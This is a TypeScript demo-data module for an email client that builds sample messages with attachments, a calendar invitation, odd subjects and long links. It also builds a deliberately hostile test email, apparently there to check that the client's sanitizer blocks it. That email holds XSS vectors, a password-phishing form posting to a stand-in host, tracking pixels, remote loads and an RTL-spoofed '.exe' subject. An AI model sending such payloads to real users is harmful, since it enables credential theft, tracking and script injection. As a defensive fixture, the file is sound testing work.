/** Mail that a mail program must cope with: attachments, invitations, no subject, a far too long one, and an enemy. */
import type { EmailAddress } from '@/lib/jmap/types';
import { docx, landscape, pdf } from '@/lib/source/local/demo/files';
import { DAY, type DemoMessage, HOUR, MINUTE } from '@/lib/source/local/demo/message';
import { people } from '@/lib/source/local/demo/people';

const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

export function special(you: EmailAddress, now: number): DemoMessage[] {
  const { mira, tomas, george, hana, petra, stranger } = people;
  const to = [you];
  return [
    {
      id: 'photos',
      ago: 10 * HOUR,
      from: hana,
      to,
      subject: 'Three skies from the ferry',
      text: 'The same hill three times, and never the same. Which one shall I print?\n\nHana',
      files: [
        { name: 'morning.png', type: 'image/png', content: landscape([255, 214, 165], [160, 196, 255]) },
        { name: 'noon.png', type: 'image/png', content: landscape([120, 180, 255], [220, 240, 255]) },
        {
          name: 'evening – the best.png',
          type: 'image/png',
          content: landscape([70, 40, 110], [255, 140, 90]),
        },
      ],
      keywords: ['$flagged'],
    },
    {
      id: 'draft-contract',
      ago: 29 * HOUR,
      from: george,
      to,
      cc: [petra],
      subject: 'Programme of the evening, second version',
      text: 'Attached as a Word file and as PDF, they should say the same. If they do not, the PDF lies.',
      files: [
        {
          name: 'Programme v2.docx',
          type: WORD,
          content: docx([
            'Programme of the evening',
            '19:00 Doors',
            '19:30 Spring talk',
            '20:15 Questions and soup',
          ]),
        },
        {
          name: 'Programme v2.pdf',
          type: 'application/pdf',
          content: pdf([
            'Programme of the evening',
            '19:00 Doors',
            '19:30 Spring talk',
            '20:15 Questions and soup',
          ]),
        },
        {
          name: 'Программа вечера (черновик).txt',
          type: 'text/plain',
          content: Buffer.from('19:00 Двери\r\n19:30 Доклад\r\n'),
        },
      ],
    },
    {
      id: 'invitation',
      ago: 6 * HOUR,
      from: mira,
      to,
      subject: 'Invitation: walk along the river',
      text: 'Mira invites you to a walk along the river.',
      files: [{ name: 'invite.ics', type: 'text/calendar', content: invitation(mira, you, now + 3 * DAY) }],
    },
    {
      id: 'no-subject',
      ago: 40 * MINUTE,
      from: tomas,
      to,
      subject: null,
      text: 'Sent too early, sorry. The bread is in the oven, come at seven.',
    },
    {
      id: 'empty',
      ago: 4 * DAY + 4 * HOUR,
      from: tomas,
      to,
      subject: 'Address as promised: 14 Mill Lane, second door',
      text: '',
      keywords: ['$seen'],
    },
    {
      id: 'long-subject',
      ago: 5 * DAY + 5 * HOUR,
      from: petra,
      to,
      subject:
        'A very long subject, because I wanted to say everything at once: the meeting moved to the small room on the third floor, the projector did not move with it, somebody should bring the cable with the flat end, and whoever still has the key to the cupboard is kindly asked to confess before Thursday',
      text: 'All said above.',
      keywords: ['$seen'],
    },
    {
      id: 'unbroken',
      ago: 7 * DAY + 2 * HOUR,
      from: george,
      to,
      subject: 'Link that does not fit',
      text: `https://archive.example.org/${'very-long-path/'.repeat(20)}?${'x'.repeat(300)}\n\nShort version: search for "harbour plan 1911".`,
      keywords: ['$seen'],
    },
    {
      id: 'many',
      ago: 9 * DAY + HOUR,
      from: mira,
      to: [you, tomas, george, hana, petra, people.ines, people.oleg, people.anna, people.wei, people.noam],
      subject: 'Choir: new rehearsal room',
      html: '<p>Dear all,</p><p>from next week we sing in the <b>old fire station</b>. It is dry, warm, and the echo forgives.</p><ul><li>Enter by the side door</li><li>Bikes into the yard</li><li>Please bring pencils</li></ul><blockquote style="border-left:3px solid #ccc;margin:0;padding-left:12px;color:#555">"Where do we sing?"<br>"Where the hose hung."</blockquote>',
      keywords: ['$seen', '$answered'],
    },
    {
      id: 'hostile',
      ago: 90 * MINUTE,
      from: stranger,
      to,
      subject: 'You have won <script>alert(1)</script> \u202egpj.exe',
      html: hostile(),
    },
  ];
}

/** RFC 5546 REQUEST. */
function invitation(from: EmailAddress, to: EmailAddress, start: number): Buffer {
  const stamp = (time: number) => `${new Date(time).toISOString().replace(/[-:]/g, '').slice(0, 13)}0000Z`;
  const lines = [
    'BEGIN:VCALENDAR',
    'VERSION:2.0',
    'PRODID:-//example.org//demo//EN',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    'UID:river-walk@example.org',
    `DTSTAMP:${stamp(start - 3 * DAY)}`,
    `DTSTART:${stamp(start)}`,
    `DTEND:${stamp(start + 2 * HOUR)}`,
    'SUMMARY:Walk along the river',
    'LOCATION:The old bridge',
    `ORGANIZER;CN=${from.name}:mailto:${from.email}`,
    `ATTENDEE;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:${to.email}`,
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ];
  return Buffer.from(lines.join('\r\n'));
}

/** One of each trick. Nothing of it may run, load, submit or cover anything; it is here so that everybody can see that. */
function hostile(): string {
  const away = 'https://tracker.example.net';
  return `<html><head>
<base href="${away}/"><meta http-equiv="refresh" content="0;url=${away}/refresh">
<link rel="stylesheet" href="${away}/style.css"><link rel="dns-prefetch" href="//tracker.example.net">
<style>@import url("${away}/import.css"); body{background:url(${away}/background.png)} .cover{position:fixed;inset:0;z-index:99999}</style>
<script>document.title = "taken over"; fetch("${away}/script")</script>
</head><body onload="alert('load')" background="${away}/body.png">
<h1 onclick="alert('click')" style="color:#b00">CONGRATULATIONS!!!</h1>
<p>You have won <b>1,000,000</b>. Confirm your account to receive it:</p>
<form action="${away}/steal" method="post"><input name="password" type="password" placeholder="Mail password"><button>Confirm</button></form>
<p><a href="javascript:alert('link')">Continue here</a> or at <a href="${away}/login">https://www.bank.example.com/login</a>.</p>
<img src="${away}/pixel.gif?reader=you" width="1" height="1" alt=""><img src="x" onerror="alert('image')">
<svg onload="alert('svg')"><script>alert('svg script')</script></svg><math><mi xlink:href="javascript:alert('math')">x</mi></math>
<iframe src="${away}/frame"></iframe><object data="${away}/object"></object><embed src="${away}/embed">
<video poster="${away}/poster.png" autoplay><source src="${away}/film.mp4"></video>
<div style="background-image:url('${away}/div.png');position:fixed;top:0;left:0;width:100%;height:40px">This bar wants to lie over the page.</div>
<p style="font-size:0">filter words that nobody sees</p>
</body></html>`;
}
